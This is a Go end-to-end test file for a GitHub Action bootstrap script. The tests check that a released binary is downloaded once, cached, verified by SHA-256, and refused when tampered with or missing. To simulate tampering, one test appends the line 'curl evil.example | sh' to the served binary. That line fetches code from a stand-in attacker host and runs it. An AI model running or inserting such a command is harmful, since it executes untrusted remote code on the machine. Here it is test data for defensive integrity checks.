package e2e

import (
	"crypto/sha256"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
)

// release is a checkout of the action whose table names one released binary, and the server that has it.
type release struct {
	dir, cache, url string
	downloads       int
}

const fakeBinary = "#!/bin/sh\necho released\n"

func newRelease(t *testing.T, sum, served string) *release {
	t.Helper()
	r := &release{dir: t.TempDir(), cache: t.TempDir()}
	copyTree(t, filepath.Join("..", "bootstrap.sh"), filepath.Join(r.dir, "action", "bootstrap.sh"))
	write(t, filepath.Join(r.dir, "action", "checksums.txt"), fmt.Sprintf("# comment\n%s  gitops-action_1.2.3_plan9_amd64\n%s  gitops-action_1.2.3_%s_%s\n",
		strings.Repeat("0", 64), sum, runtime.GOOS, runtime.GOARCH))
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, q *http.Request) {
		r.downloads++
		if q.URL.Path != fmt.Sprintf("/v1.2.3/gitops-action_1.2.3_%s_%s", runtime.GOOS, runtime.GOARCH) {
			http.NotFound(w, q)
			return
		}
		_, _ = w.Write([]byte(served))
	}))
	t.Cleanup(server.Close)
	r.url = server.URL
	return r
}

// resolve runs the script and returns what it printed.
func (r *release) resolve(env ...string) (string, error) {
	cmd := exec.Command("bash", filepath.Join(r.dir, "action", "bootstrap.sh"))
	cmd.Env = append(append(os.Environ(), "RUNNER_TOOL_CACHE="+r.cache, "RUNNER_OS=", "RUNNER_ARCH=", "GITHUB_ACTIONS=", "GITOPS_DOWNLOAD_URL="+r.url), env...)
	var stderr strings.Builder
	cmd.Stderr = &stderr
	out, err := cmd.Output()
	if err != nil {
		return "", fmt.Errorf("%w: %s", err, stderr.String())
	}
	return strings.TrimSpace(string(out)), nil
}

func checksum(s string) string { return fmt.Sprintf("%x", sha256.Sum256([]byte(s))) }

func TestReleasedBinaryIsDownloadedOnceAndChecked(t *testing.T) {
	r := newRelease(t, checksum(fakeBinary), fakeBinary)
	for range 2 {
		bin, err := r.resolve()
		if err != nil {
			t.Fatal(err)
		}
		if out := run(t, ".", nil, bin); out != "released\n" {
			t.Errorf("%s printed %q", bin, out)
		}
	}
	if r.downloads != 1 {
		t.Errorf("%d downloads, want 1: the tool cache was not used", r.downloads)
	}
}

func TestWrongChecksumStopsTheJob(t *testing.T) {
	r := newRelease(t, checksum(fakeBinary), fakeBinary+"curl evil.example | sh\n")
	bin, err := r.resolve()
	if err == nil || !strings.Contains(err.Error(), "wrong SHA-256") {
		t.Fatalf("got %q, %v", bin, err)
	}
	if left, _ := filepath.Glob(filepath.Join(r.cache, "*", "*", "*", "*")); len(left) > 0 {
		t.Errorf("the wrong binary was kept: %v", left)
	}
}

func TestChangedBinaryInTheToolCacheIsNotRun(t *testing.T) {
	r := newRelease(t, checksum(fakeBinary), fakeBinary)
	bin, err := r.resolve()
	if err != nil {
		t.Fatal(err)
	}
	write(t, bin, "#!/bin/sh\necho evil\n")
	if got, err := r.resolve(); err == nil || !strings.Contains(err.Error(), "wrong SHA-256") {
		t.Errorf("got %q, %v", got, err)
	}
}

func TestMissingReleaseStopsTheJob(t *testing.T) {
	r := newRelease(t, checksum(fakeBinary), fakeBinary)
	if got, err := r.resolve("GITOPS_DOWNLOAD_URL=" + r.url + "/elsewhere"); err == nil || !strings.Contains(err.Error(), "could not download") {
		t.Errorf("got %q, %v", got, err)
	}
}

func TestBinPathIsUsedAsItIs(t *testing.T) {
	r := newRelease(t, checksum(fakeBinary), fakeBinary)
	own := filepath.Join(t.TempDir(), "own")
	write(t, own, fakeBinary)
	if got, err := r.resolve("GITOPS_BIN_PATH=" + own); err == nil {
		t.Errorf("a file that is not executable was taken: %q", got)
	}
	if err := os.Chmod(own, 0o755); err != nil {
		t.Fatal(err)
	}
	if got, err := r.resolve("GITOPS_BIN_PATH=" + own); err != nil || got != own || r.downloads > 0 {
		t.Errorf("got %q, %v, %d downloads", got, err, r.downloads)
	}
}

func TestWithoutReleaseAndWithoutGoTheErrorSaysWhatToDo(t *testing.T) {
	r := newRelease(t, checksum(fakeBinary), fakeBinary)
	write(t, filepath.Join(r.dir, "action", "checksums.txt"), "# nothing released\n")
	tools := t.TempDir() // the tools of the script, without Go
	for _, tool := range []string{"bash", "dirname", "uname", "cut", "mktemp", "mkdir"} {
		path, err := exec.LookPath(tool)
		if err != nil {
			t.Skipf("no %s", tool)
		}
		if err := os.Symlink(path, filepath.Join(tools, tool)); err != nil {
			t.Fatal(err)
		}
	}
	if got, err := r.resolve("PATH=" + tools); err == nil || !strings.Contains(err.Error(), "actions/setup-go") {
		t.Errorf("got %q, %v", got, err)
	}
}
